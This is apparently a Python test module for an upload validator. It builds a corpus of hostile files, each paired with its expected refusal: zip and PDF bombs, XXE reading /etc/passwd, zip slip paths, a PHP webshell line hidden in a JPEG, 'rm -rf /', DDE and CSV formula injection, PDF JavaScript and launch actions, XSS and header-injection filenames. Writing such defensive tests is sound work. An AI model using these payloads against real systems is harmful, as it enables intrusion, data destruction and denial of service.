"""Files that mean harm, or that harm by accident: each is refused in plain words, or kept and served harmlessly."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.uploads.conftest import EICAR
from tests.uploads.documents import (
    Parts,
    chunk,
    jpeg,
    office,
    office_parts,
    old_office,
    open_document,
    outside_link,
    packed_objects,
    pdf,
    png,
    zipped,
)

MEBIBYTE = 1 << 20


@dataclass(frozen=True, slots=True)
class Hostile:
    """`why` is a word of the refusal; None: it is kept, and must be harmless when it is served."""

    label: str
    name: str
    build: Callable[[], bytes]
    why: str | None


def with_nothing(parts: Parts, name: str, megabytes: int) -> bytes:
    """The same entries, and one that unfolds into so many megabytes of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in parts.items():
            archive.writestr(path, content)
        with archive.open(name, "w") as entry:
            for _ in range(megabytes):
                entry.write(bytes(MEBIBYTE))
    return out.getvalue()


def bomb_document() -> bytes:
    """400 MB of nothing in 400 kB."""
    return with_nothing(office_parts("docx"), "word/media/big.xml", 400)


def many_entries() -> bytes:
    """Twenty thousand entries."""
    return zipped(office_parts("docx", {f"word/x{number}.xml": b"" for number in range(20_000)}), zipfile.ZIP_STORED)


def overlapping() -> bytes:
    """Many directory entries that point at one and the same content (as in a better zip bomb)."""
    content = office("docx", {"word/media/kernel.bin": b"\0" * MEBIBYTE})
    end = content.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<L", content, end + 16)[0]
    last = content.rfind(b"PK\x01\x02", 0, end)
    extra = b"".join(content[last:end].replace(b"kernel.bin", b"kern%02d.bin" % number) for number in range(90))
    directory = content[start:end] + extra
    count = struct.unpack_from("<H", content, end + 10)[0] + 90
    mark = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return content[:start] + directory + mark


def lying_sizes() -> bytes:
    """The directory says 10 bytes; a megabyte comes out."""
    content = bytearray(office("docx", {"word/media/lie.bin": b"\0" * MEBIBYTE}))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        struct.pack_into("<L", content, content.rfind(mark) + offset, 10)
    return bytes(content)


def encrypted_entry() -> bytes:
    """Bit 0 of the flags of an entry."""
    content = bytearray(office("docx"))
    content[content.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def two_names() -> bytes:
    """The directory calls an entry otherwise than its own header does."""
    return office("docx", {"word/aaaa.xml": b"<a/>"}).replace(b"word/aaaa.xml", b"word/bbbb.xml", 1)


def quine_like() -> bytes:
    """A document within a document within a document."""
    inner = office("xlsx", {"xl/embeddings/inner.xlsx": office("xlsx")})
    return office("docx", {"word/embeddings/sheet.xlsx": inner})


def inner_bomb() -> bytes:
    """An embedded sheet that unfolds to 100 MB."""
    return office("docx", {"word/embeddings/s.xlsx": with_nothing(office_parts("xlsx"), "xl/worksheets/s.xml", 100)})


def self_extracting() -> bytes:
    """A program before an archive that still opens."""
    return b"MZ" + b"\0" * 500 + office("docx")


def pdf_and_zip() -> bytes:
    """Opens as a PDF and as an archive."""
    return pdf() + zipped({"run.exe": b"MZ"})


def packed_pdf_bomb() -> bytes:
    """An object stream of 200 MB."""
    packer = zlib.compressobj()
    packed = b"".join(packer.compress(bytes(MEBIBYTE)) for _ in range(200)) + packer.flush()
    return pdf(b"7 0 obj\n<< /Type /ObjStm >>\nstream\n" + packed + b"\nendstream\nendobj\n")


def png_with_tail() -> bytes:
    """A picture with a page behind it."""
    return png() + b"<html><script>alert(1)</script>"


def png_bomb() -> bytes:
    """A header of 50,000 by 50,000 pixels in a file of some hundred bytes."""
    return png(50_000, 50_000)


def endless_png() -> bytes:
    """A chunk that says it is four gigabytes long."""
    return png()[:33] + struct.pack(">I", 0xFFFFFFF0) + b"IDAT" + b"\0" * 100


def endless_jpeg() -> bytes:
    """Nothing but segments."""
    return b"\xff\xd8" + b"\xff\xe1\x00\x02" * 100_000


def long_line() -> bytes:
    """One line of twenty megabytes."""
    return b"a," * (10 * MEBIBYTE)


def deep_xml() -> bytes:
    """A million elements in one another."""
    return office("docx", {"word/deep.xml": b"<a>" * 1_000_000})


def laughs() -> bytes:
    """A billion laughs."""
    return office("docx", {"word/l.xml": b'<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'})


def wide_laughs() -> bytes:
    """The same in UTF-16."""
    return office("docx", {"word/l.xml": '<!DOCTYPE l [<!ENTITY a "lol">]><l/>'.encode("utf-16")})


def outside_entity() -> bytes:
    """XXE: the server's own file as an entity."""
    return office("docx", {"word/x.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'})


def macro_type() -> bytes:
    """Macros declared, by another name."""
    types = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    return office("docx", {"[Content_Types].xml": types})


def zip_with(names: dict[str, bytes]) -> Callable[[], bytes]:
    """A document with these entries besides its own."""
    return lambda: office("docx", names)


def raw_name(name: bytes) -> bytes:
    """An entry whose name no library would write."""
    return office("docx", {"word/" + "x" * (len(name) - 5): b"<a/>"}).replace(b"word/" + b"x" * (len(name) - 5), name)


def truncated(content: bytes, part: float = 0.6) -> bytes:
    """The beginning of it."""
    return content[: int(len(content) * part)]


def text_of(marks: bytes) -> Callable[[], bytes]:
    """These bytes."""
    return lambda: marks


def disguised_script() -> bytes:
    """The name's letters as numbers."""
    return pdf(SCRIPT.replace(b"/JavaScript", b"/J#61vaScr#69pt"))


def broken_packing() -> bytes:
    """An object stream that does not unpack."""
    return pdf(packed_objects(b"x").replace(b"x\x9c", b"x\x00"))


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
CORPUS = (
    Hostile("empty", "empty.pdf", bytes, "empty"),
    Hostile("no name", "", pdf, "Choose"),
    Hostile("only dots", "....", pdf, "does not say"),
    Hostile("no ending", "assessment", pdf, "does not say"),
    Hostile("program", "assessment.exe", text_of(b"MZ" + b"\0" * 100), "not taken"),
    Hostile("program as PDF", "assessment.pdf", text_of(b"MZ" + b"\0" * 100), "not what its name says"),
    Hostile("ELF as DOCX", "assessment.docx", text_of(b"\x7fELF" + b"\0" * 100), "damaged"),
    Hostile("double ending, program last", "assessment.pdf.exe", pdf, "not taken"),
    Hostile("double ending, program first", "assessment.exe.pdf", pdf, "two endings"),
    Hostile("right to left override", "assessment\u202efdp.exe", pdf, "not taken"),
    Hostile("right to left, harmless", "assess\u202ement\u2066.pdf", pdf, None),
    Hostile("NUL in the name", "assessment.exe\0.pdf", pdf, "two endings"),
    Hostile("path in the name", "../../../etc/cron.d/assessment.pdf", pdf, None),
    Hostile("Windows path in the name", "C:\\Windows\\System32\\assessment.pdf", pdf, None),
    Hostile("line break in the name", "a.pdf%0D%0ASet-Cookie: x=1%0D%0A.pdf", pdf, None),
    Hostile("quotes in the name", "a%22;filename=%22evil.txt%22.pdf", pdf, None),
    Hostile("page in the name", "<img src=x onerror=alert(1)>.pdf", pdf, None),
    Hostile("device as name", "CON.pdf", pdf, None),
    Hostile("endless name", "a" * 5_000 + ".pdf", pdf, None),
    Hostile("trailing dot and space", "assessment.exe. ", pdf, "not taken"),
    Hostile("alternate data stream", "assessment.pdf::$DATA", pdf, "not taken"),
    Hostile("archive", "assessments.zip", lambda: zipped({"a.pdf": pdf()}), "Archives"),
    Hostile("archive as DOCX", "assessment.docx", lambda: zipped({"a.pdf": pdf()}), "not what its name says"),
    Hostile("Excel as Word", "assessment.docx", lambda: office("xlsx"), "not what its name says"),
    Hostile("OpenDocument as Word", "assessment.docx", lambda: open_document("odt"), "not what its name says"),
    Hostile("macro document", "assessment.docm", lambda: office("docx"), "macros"),
    Hostile("macros under a new ending", "a.docx", zip_with({"word/vbaProject.bin": b"x"}), "macros"),
    Hostile("macros by type", "a.docx", macro_type, "macros"),
    Hostile("Excel 4 macros", "a.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    Hostile("ActiveX", "a.docx", zip_with({"word/activeX/activeX1.bin": b"x"}), "macros"),
    Hostile("Basic in ODT", "a.odt", lambda: open_document("odt", {"Basic/Standard/M.xml": b"<a/>"}), "macros"),
    Hostile("scripts in ODT", "a.odt", lambda: open_document("odt", {"Scripts/python/m.py": b"x"}), "macros"),
    Hostile("embedded object", "a.docx", zip_with({"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    Hostile("embedded object in ODS", "a.ods", lambda: open_document("ods", {"Object 1": b"x"}), "embedded"),
    Hostile(
        "template from elsewhere",
        "a.docx",
        zip_with({"word/_rels/settings.xml.rels": outside_link("attachedTemplate", "http://evil.example/t.dotm")}),
        "elsewhere",
    ),
    Hostile(
        "object from elsewhere",
        "a.docx",
        zip_with({"word/_rels/document.xml.rels": outside_link("oleObject", "mhtml:http://evil.example!x")}),
        "elsewhere",
    ),
    Hostile(
        "DDE",
        "a.xlsx",
        lambda: office("xlsx", {"xl/externalLinks/l.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}),
        "elsewhere",
    ),
    Hostile("XXE", "a.docx", outside_entity, "instructions"),
    Hostile("a billion laughs", "a.docx", laughs, "instructions"),
    Hostile("a billion laughs in UTF-16", "a.docx", wide_laughs, "instructions"),
    Hostile("deep XML", "a.docx", deep_xml, None),
    Hostile("zip bomb", "a.docx", bomb_document, "unfolds"),
    Hostile("overlapping entries", "a.docx", overlapping, "damaged"),
    Hostile("lying sizes", "a.docx", lying_sizes, "damaged"),
    Hostile("twenty thousand entries", "a.docx", many_entries, "unfolds"),
    Hostile("bomb in an embedded sheet", "a.docx", inner_bomb, "unfolds"),
    Hostile("documents in documents", "a.docx", quine_like, "archives inside"),
    Hostile("archive inside", "a.docx", zip_with({"word/media/more.zip": zipped({"a": b"b"})}), "archives inside"),
    Hostile("zip slip", "a.docx", zip_with({"../../../etc/cron.d/x": b"x"}), "names"),
    Hostile("absolute entry", "a.docx", zip_with({"/etc/passwd": b"x"}), "names"),
    Hostile("backslash entry", "a.docx", zip_with({"word\\..\\..\\x.xml": b"x"}), "names"),
    Hostile("drive entry", "a.docx", zip_with({"C:/Windows/x.xml": b"x"}), "names"),
    Hostile("NUL in an entry", "a.docx", lambda: raw_name(b"word/a\0.exe.xml"), "names"),
    Hostile("two entries in one name", "a.docx", zip_with({"WORD/document.xml": b"<evil/>"}), "names"),
    Hostile("header and directory disagree", "a.docx", two_names, "damaged"),
    Hostile("encrypted entry", "a.docx", encrypted_entry, "password"),
    Hostile("program before the archive", "a.docx", self_extracting, "damaged"),
    Hostile("tail behind the archive", "a.docx", lambda: office("docx") + b"<script>", "damaged"),
    Hostile("cut short", "a.docx", lambda: truncated(office("docx")), "damaged"),
    Hostile("under a password", "a.docx", lambda: old_office("Root Entry", "EncryptedPackage"), "password"),
    Hostile("old Word under a new ending", "a.docx", lambda: old_office("Root Entry", "WordDocument"), "old Office"),
    Hostile("old Word", "a.doc", lambda: old_office("Root Entry", "WordDocument"), "old Office"),
    Hostile(
        "OpenDocument under a password",
        "a.odt",
        lambda: open_document("odt", manifest=b"<manifest:encryption-data/>"),
        "password",
    ),
    Hostile("PDF with a script", "a.pdf", lambda: pdf(b"2 0 obj\n" + SCRIPT + b"\nendobj\n"), "scripts"),
    Hostile("PDF with a disguised script", "a.pdf", disguised_script, "scripts"),
    Hostile("PDF with a packed script", "a.pdf", lambda: pdf(packed_objects(b"2 0 " + SCRIPT)), "scripts"),
    Hostile("PDF that starts a program", "a.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), "scripts"),
    Hostile("PDF with a file inside", "a.pdf", lambda: pdf(b"<< /Type /EmbeddedFile >>"), "attached"),
    Hostile("PDF under a password", "a.pdf", lambda: pdf(trailer=b"<< /Encrypt 9 0 R >>"), "password"),
    Hostile("PDF cut short", "a.pdf", lambda: truncated(pdf()), "damaged"),
    Hostile("PDF behind a page", "a.pdf", lambda: b"<html><script>1</script>" + pdf(), "not what its name says"),
    Hostile("PDF and archive in one", "a.pdf", pdf_and_zip, "two kinds"),
    Hostile("PDF bomb", "a.pdf", packed_pdf_bomb, "unfolds"),
    Hostile(
        "PDF with broken packing", "a.pdf", lambda: pdf(packed_objects(b"x").replace(b"x\x9c", b"x\x00")), "damaged"
    ),
    Hostile("PNG of 2.5 gigapixels", "a.png", png_bomb, "pixels"),
    Hostile("PNG of no size", "a.png", lambda: png(0, 7), "damaged"),
    Hostile("PNG with a tail", "a.png", png_with_tail, "damaged"),
    Hostile("PNG without end", "a.png", endless_png, "damaged"),
    Hostile(
        "PNG with packed text", "a.png", lambda: png()[:33] + chunk(b"zTXt", zlib.compress(bytes(MEBIBYTE))), "damaged"
    ),
    Hostile("JPEG of 4 gigapixels", "a.jpg", lambda: jpeg(65_000, 65_000), "pixels"),
    Hostile("JPEG without a picture", "a.jpg", endless_jpeg, "damaged"),
    Hostile("JPEG and archive in one", "a.jpg", lambda: jpeg(more=zipped({"run.exe": b"MZ"})), "two kinds"),
    Hostile("JPEG with PHP inside", "a.jpg", lambda: jpeg(more=b"<?php system($_GET[0]); ?>"), None),
    Hostile("SVG", "a.svg", text_of(b"<svg onload='alert(1)'/>"), "not taken"),
    Hostile("SVG as text", "a.txt", text_of(b"<svg xmlns='x' onload='alert(1)'/>"), "web page"),
    Hostile("page as text", "a.txt", text_of(b"\n<!DOCTYPE html><body onload=alert(1)>"), "web page"),
    Hostile("script within text", "a.txt", text_of(b"Dear all\n<script src=//evil.example></script>"), "web page"),
    Hostile("page as PDF", "a.pdf", text_of(b"<html>"), "not what its name says"),
    Hostile("RTF as text", "a.txt", text_of(b"{\\rtf1\\object\\objdata}"), "web page"),
    Hostile("shell script as text", "a.txt", text_of(b"#!/bin/sh\nrm -rf /\n"), "web page"),
    Hostile("bytes as text", "a.txt", text_of(bytes(range(256))), "not plain text"),
    Hostile("UTF-16 page as text", "a.txt", lambda: "<script>alert(1)</script>".encode("utf-16"), "web page"),
    Hostile("formula in CSV", "a.csv", text_of(b"area,harm\nA,=cmd|'/c calc'!A1\n"), "formula"),
    Hostile("quoted formula in CSV", "a.csv", text_of(b'a;b\n"@SUM(1+1)*cmd|x";2\n'), "formula"),
    Hostile("plus formula in CSV", "a.csv", text_of(b'a\tb\n+HYPERLINK("http://evil.example")\t2\n'), "formula"),
    Hostile("endless line", "a.csv", long_line, None),
    Hostile("test virus", "a.txt", text_of(EICAR), "virus"),
    Hostile("test virus in a document", "a.docx", lambda: zipped(office_parts("docx", {"x.xml": EICAR}), 0), "virus"),
)
